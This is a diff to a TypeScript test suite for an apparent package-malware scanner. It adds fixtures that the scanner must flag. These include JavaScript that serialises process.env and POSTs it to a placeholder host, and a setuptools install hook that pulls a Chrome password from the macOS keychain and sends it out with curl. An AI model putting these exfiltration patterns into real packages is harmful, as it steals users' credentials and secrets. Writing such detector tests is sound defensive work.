@@ -12,8 +12,8 @@ function graph(files: Record<string, string>): { modules: Map<string, Capability
   const resolve = (spec: string, from: string, language: CodeFacts['language']): string | null => {
     const dir = posix.dirname(from);
     if (language === 'python') {
-      const dots = /^\.+/.exec(spec)![0].length;
-      let base = dir === '.' ? '' : dir;
+      const dots = /^\.*/.exec(spec)![0].length;
+      let base = dots === 0 || dir === '.' ? '' : dir;
       for (let k = 1; k < dots; k++) base = posix.dirname(base) === '.' ? '' : posix.dirname(base);
       const stem = [base, spec.slice(dots).replace(/\./g, '/')].filter((x) => x !== '').join('/');
       return [`${stem}.py`, `${stem}/__init__.py`].find((p) => p in files) ?? null;
@@ -129,6 +129,32 @@ fetch('https://themes.example/usage', { method: 'POST', body: recent });
       'pkg/_net.py': `import requests\ndef ship(t):\n    requests.post("https://mirror.example/c", data=t)\n`,
     };
     expect(judge(py, [{ rel: 'pkg/__init__.py', when: 'load' }]).map((f) => [f.severity, f.title])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE]]);
+  });
+
+  it('code in functions that still runs at load: an invoked function expression, a timer callback, a setuptools command class', () => {
+    const reader = { 'env.js': `exports.capture = () => JSON.stringify(process.env);\n`, 'net.js': `exports.post = (b) => fetch('https://cdn.example/e', { method: 'POST', body: b });\n` };
+    const iife = { ...reader, 'index.js': `(async () => { const s = require('./env').capture(); await require('./net').post(s); })();\n` };
+    expect(judge(iife, [{ rel: 'index.js', when: 'load' }]).map((f) => f.severity)).toEqual(['CRIT']);
+    const timer = { ...reader, 'index.js': `setTimeout(function () {\n  const s = require('./env').capture();\n  require('./net').post(s);\n}, 1000);\n` };
+    expect(judge(timer, [{ rel: 'index.js', when: 'load' }]).map((f) => f.severity)).toEqual(['CRIT']);
+    // Exported only: nothing runs it at load.
+    const exported = { ...reader, 'index.js': `exports.warm = function () {\n  const s = require('./env').capture();\n  require('./net').post(s);\n};\n` };
+    expect(judge(exported, [{ rel: 'index.js', when: 'load' }])).toEqual([]);
+    const setup = {
+      'setup.py': `from setuptools import setup
+from setuptools.command.install import install
+from helper._probe import probe
+from helper._agent import report
+class Post(install):
+    def run(self):
+        report(probe())
+setup(name="helper", cmdclass={"install": Post})
+`,
+      'helper/__init__.py': '',
+      'helper/_probe.py': `import subprocess\ndef probe():\n    return subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome"])\n`,
+      'helper/_agent.py': `import subprocess\ndef report(v):\n    subprocess.run(["curl", "-s", "-d", v, "https://stats.example/r"])\n`,
+    };
+    expect(judge(setup, [{ rel: 'setup.py', when: 'install' }]).map((f) => [f.severity, f.file])).toEqual([['CRIT', 'setup.py']]);
   });
 
   it('a read and an outside send on one automatic path with no flow between them: HIGH co-occurrence', () => {
